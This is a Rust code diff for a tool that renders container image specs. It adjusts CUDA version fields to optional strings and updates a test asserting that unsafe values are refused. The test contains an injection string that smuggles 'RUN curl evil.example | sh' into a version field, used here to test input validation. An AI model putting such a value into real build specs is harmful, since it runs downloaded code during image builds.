@@ -388,9 +388,9 @@ pub(crate) fn check_values(image: &ImageSpec) -> Result<(), RenderError> {
     }
     version_like("cuda", &image.cuda)?;
     for (field, value) in [
-        ("base_cuda_toolkit", &image.base_cuda_toolkit),
-        ("cuda_runtime", &image.cuda_runtime),
-        ("cuda_nvcc", &image.cuda_nvcc),
+        ("base_cuda_toolkit", image.base_cuda_toolkit.as_deref()),
+        ("cuda_runtime", image.cuda_runtime.as_deref()),
+        ("cuda_nvcc", image.cuda_nvcc.as_deref()),
     ] {
         if let Some(value) = value {
             version_like(field, value)?;
@@ -944,12 +944,16 @@ mod tests {
     fn unsafe_values_in_hand_made_specs_are_refused() {
         let (mut images, matrix) =
             specs("torch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\nvariants: [runtime]\n");
-        images[0].torch = "2.7.0\nRUN curl evil.example | sh".into();
+        // A version field cannot even hold it: the type refuses the text ...
+        let unsafe_text = "2.7.0\nRUN curl evil.example | sh";
+        assert!(crate::model::axes::VersionText::parse(unsafe_text).is_err());
+        // ... and a field still kept as text (the lock's CUDA runtime) is refused at render.
+        images[0].cuda_runtime = Some(unsafe_text.to_string());
         let error = render_all(&images, &matrix, &Templates::embedded(), None)
             .unwrap_err()
             .to_string();
         assert!(
-            error.contains("refusing to render unsafe value for torch"),
+            error.contains("refusing to render unsafe value for cuda_runtime"),
             "{error}"
         );
     }
